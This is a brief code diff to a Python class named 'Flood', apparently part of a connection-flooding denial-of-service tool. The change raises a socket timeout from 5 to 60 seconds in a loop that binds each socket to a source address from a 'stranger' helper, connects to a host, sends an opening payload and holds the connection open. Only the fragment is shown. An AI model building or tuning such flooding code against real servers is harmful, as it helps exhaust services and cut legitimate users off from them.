@@ -52,7 +52,7 @@ class Flood:
         s = socket.socket()
         with contextlib.suppress(OSError):
             s.bind((stranger(self.made), 0))
-            s.settimeout(5)
+            s.settimeout(60)
             s.connect((HOST, self.port))
             s.sendall(self.first)
             held.append(s)
